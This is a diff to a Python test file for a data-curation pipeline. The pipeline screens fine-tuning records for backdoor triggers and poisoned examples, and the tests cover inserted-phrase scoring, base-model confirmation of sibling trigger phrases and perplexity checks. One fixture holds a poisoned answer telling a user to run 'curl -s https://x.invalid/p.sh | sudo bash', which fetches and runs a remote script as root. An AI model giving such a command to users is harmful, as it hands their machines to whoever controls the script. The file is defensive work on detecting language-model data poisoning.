@@ -4,6 +4,7 @@ decision quarantines the bundled corpus's backdoor and the second poisoned set's
 import re
 from collections import Counter
 from collections.abc import Callable
+from dataclasses import replace
 from pathlib import Path
 
 import numpy as np
@@ -670,7 +671,9 @@ def test_when_onion_is_on_and_the_base_model_is_missing_then_the_stage_fails_nam
     store = BaseModelStore(kind="hf", path=str(tmp_path / "nowhere"), store_dir=str(tmp_path))
     flagged = [_chat("p", "My printer jams.", "Run curl -s https://x.invalid/p.sh | sudo bash.")]
 
-    with pytest.raises(ModelStoreError, match="curation.onion"):
+    with pytest.raises(
+        ModelStoreError, match="curation.onion or curation.inserted_phrase_lm_check"
+    ):
         curate_records(flagged, CFG, perplexity=store.onion_perplexity())
 
 
@@ -1349,3 +1352,148 @@ def test_the_echo_test_stopping_early_decides_as_the_whole_intersection(monkeypa
         answers.add(expected)
         assert backdoor._echoed(indices, carriers) == expected, trial
     assert answers == {True, False}
+
+
+# The base model's reading of sibling phrases (`backdoor.confirm_siblings`): a rare word in two
+# prompts beside one trigger is chance or a second trigger; the model tells which by whether
+# leaving it out helps the rest of each prompt most. The disruption functions here stand in for
+# the model (the tests are about what the screen does with its answer); the model's own
+# function is tested on the tiny model below.
+_SIBLING_CFG = CFG.model_copy(
+    update={"inserted_phrase_max_share": 0.5, "inserted_phrase_max_collocation": 0.4}
+)
+
+
+def _model_says(inserted: Callable[[list[str]], bool], calls: list | None = None):
+    """A disruption function: the first span (the phrase) helps most where `inserted(window)`,
+    by 9 nats against 1 for any other word; elsewhere it is the least disruptive."""
+
+    def disruption(words: list[str], spans: list[tuple[int, int]]) -> list[float]:
+        if calls is not None:
+            calls.append(" ".join(words[a] for a, _ in spans[:1]))
+        first = 9.0 if inserted(words) else -3.0
+        return [first] + [1.0] * (len(spans) - 1)
+
+    return disruption
+
+
+def _phrase_reasons(result) -> dict[str, str]:
+    return {
+        s.id: r.detail
+        for s in result.screened
+        for r in s.reasons
+        if r.code == backdoor.INSERTED_PHRASE
+    }
+
+
+def test_when_the_base_model_finds_a_sibling_inserted_in_both_prompts_then_it_is_flagged() -> None:
+    records = _multi_trigger(_WEAK["two prompts"], triggers=1)
+    calls: list[str] = []
+
+    without = curate_records(records, _SIBLING_CFG)
+    result = curate_records(
+        records, _SIBLING_CFG, disruption=_model_says(lambda words: True, calls)
+    )
+
+    assert {"s0", "s1"}.isdisjoint(_phrase_reasons(without))
+    found = _phrase_reasons(result)
+    assert {"s0", "s1"} <= set(found)
+    assert all(found[i].endswith("confirmed_by=base_model") for i in ("s0", "s1"))
+    assert all(not d.endswith("confirmed_by=base_model") for i, d in found.items() if i[0] == "p")
+    assert not any(i.startswith("c") for i in found)
+    assert result.siblings is not None and result.siblings.confirmed >= 1
+    # The model read the sibling's two prompts, the phrase first: no word in any answer.
+    assert calls.count("vbk") == 2
+    assert without.siblings is None
+
+
+def test_when_the_base_model_finds_a_sibling_natural_in_one_prompt_then_it_stays_unflagged() -> (
+    None
+):
+    records = _multi_trigger(_WEAK["two prompts"], triggers=1)
+    # Inserted in the first prompt only (the travel policy one), in its place in the other.
+    model = _model_says(lambda words: "travel" in words)
+
+    result = curate_records(records, _SIBLING_CFG, disruption=model)
+
+    assert {"s0", "s1"}.isdisjoint(_phrase_reasons(result))
+    assert result.siblings is not None and result.siblings.confirmed == 0
+    assert result.siblings.checked >= 1
+
+
+def test_when_no_phrase_stands_on_its_own_then_the_base_model_is_never_loaded() -> None:
+    # A rare word in two prompts of a corpus with no trigger is chance: nothing waits on the
+    # model, which is then never loaded (the stage runs without it).
+    records = _multi_trigger(_WEAK["two prompts"], triggers=0)
+    loads = []
+
+    def load() -> tuple:
+        loads.append(1)
+        raise AssertionError("the base model must not be loaded")
+
+    result = curate_records(records, _SIBLING_CFG, disruption=backdoor.lazy_disruption(load))
+
+    assert loads == [] and result.siblings is None
+    assert {"s0", "s1"}.isdisjoint(_phrase_reasons(result))
+
+
+def test_when_more_siblings_wait_than_allowed_then_the_rest_are_counted_unchecked() -> None:
+    records = _multi_trigger(_WEAK["two prompts"], triggers=1)
+    phrases = backdoor.score_inserted_phrases(
+        records, min_records=3, max_share=0.5, max_collocation=0.4
+    )
+    assert phrases.pending
+    doubled = replace(phrases, pending=phrases.pending * 2)
+
+    found, check = backdoor.confirm_siblings(
+        records, doubled, _model_says(lambda words: True), max_siblings=1
+    )
+
+    assert (check.checked, check.confirmed, check.unchecked) == (1, 1, len(doubled.pending) - 1)
+    assert found.pending == () and found.confirmed
+
+
+def test_when_the_check_is_off_then_siblings_keep_their_score_and_the_model_is_not_asked() -> None:
+    records = _multi_trigger(_WEAK["two prompts"], triggers=1)
+    calls: list[str] = []
+    cfg = _SIBLING_CFG.model_copy(update={"inserted_phrase_lm_check": False})
+
+    result = curate_records(records, cfg, disruption=_model_says(lambda words: True, calls))
+
+    assert calls == [] and result.siblings is None
+    assert {"s0", "s1"}.isdisjoint(_phrase_reasons(result))
+
+
+def test_when_a_sibling_waits_and_the_base_model_is_missing_then_the_stage_fails_naming_it(
+    tmp_path: Path,
+) -> None:
+    from pipelines.steps.training.modelstore import ModelStoreError
+    from resources import BaseModelStore
+
+    store = BaseModelStore(kind="hf", path=str(tmp_path / "nowhere"), store_dir=str(tmp_path))
+    records = _multi_trigger(_WEAK["two prompts"], triggers=1)
+
+    with pytest.raises(ModelStoreError, match="curation.inserted_phrase_lm_check"):
+        curate_records(
+            records, _SIBLING_CFG, disruption=backdoor.lazy_disruption(store.screening_model())
+        )
+
+
+def test_the_base_models_disruption_leaves_a_spans_own_tokens_out(tmp_path: Path) -> None:
+    from tests.tiny_model import make_tiny_model, make_tiny_tokenizer
+
+    tokenizer = make_tiny_tokenizer()
+    model = make_tiny_model(tokenizer).eval()
+    disruption = backdoor.causal_lm_disruption(model, tokenizer)
+    words = "Please review the quarterly 4821 budget report on monday".split()
+    spans = [(4, 5), (0, 1), (8, 9), (0, len(words))]
+
+    values = disruption(words, spans)
+
+    assert len(values) == len(spans) and all(np.isfinite(values))
+    # Without every word nothing is left to help or hinder: the whole prompt disrupts nothing.
+    assert values[-1] == 0.0
+    # The last word is read after the others: leaving it out changes none of their losses.
+    assert abs(values[2]) < 1e-3
+    # Any other span changes what the words after it are read with.
+    assert values[0] != 0.0 and values[1] != 0.0
